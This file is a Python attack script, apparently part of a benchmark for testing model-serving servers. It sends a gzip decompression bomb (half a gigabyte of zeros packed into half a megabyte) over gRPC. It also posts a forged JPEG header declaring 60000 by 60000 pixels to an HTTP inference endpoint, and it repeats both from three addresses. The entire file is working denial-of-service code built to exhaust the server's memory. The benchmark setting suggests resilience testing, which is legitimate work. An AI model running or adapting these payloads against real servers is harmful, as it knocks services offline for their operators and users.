"""Messages that grow when they are unpacked: gzip, and pictures of sixty thousand pixels a side."""

import contextlib
import gzip
import http.client
import json
import struct
from dataclasses import replace

from benchmarks.attacks.attacker import Aim, Http2, keep_trying, main, web

ZEROS = gzip.compress(bytes(512 << 20), 9)
"""Half a gigabyte in half a megabyte."""
PICTURES = "pictures"
"""A model that takes any: another one would refuse them unread."""
PICTURE = (
    b"\xff\xd8\xff\xc0\x00\x11\x08\xea\x60\xea\x60\x03\x01\x22\x00\x02\x11\x01\x03\x11\x01"
    b"\xff\xda\x00\x0c\x03\x01\x00\x02\x11\x03\x11\x00\x3f\x00"
).ljust(100, b"\x00")


def run(aim: Aim) -> None:
    """Send both, from three addresses."""
    packed = replace(aim, headers=(*aim.headers, ("grpc-encoding", "gzip")))

    def attack(count: int) -> None:
        one = Http2(packed, count % 3)
        try:
            data = struct.pack(">BI", 1, len(ZEROS)) + ZEROS
            one.data(one.begin("ModelInfer"), data, end=True)
        finally:
            one.close()
        head = json.dumps(
            {
                "inputs": [
                    {
                        "name": "input",
                        "datatype": "BYTES",
                        "shape": [1],
                        "parameters": {"binary_data_size": len(PICTURE) + 4},
                    }
                ]
            }
        ).encode()
        client = web(aim, count % 3)
        headers = {**dict(aim.headers), "Inference-Header-Content-Length": str(len(head))}
        body = head + struct.pack("<I", len(PICTURE)) + PICTURE
        with contextlib.suppress(http.client.HTTPException):
            client.request("POST", f"/v2/models/{PICTURES}/infer", body, headers)
            client.getresponse().read()
        client.close()

    keep_trying(aim, attack)


if __name__ == "__main__":
    main(run, __doc__)
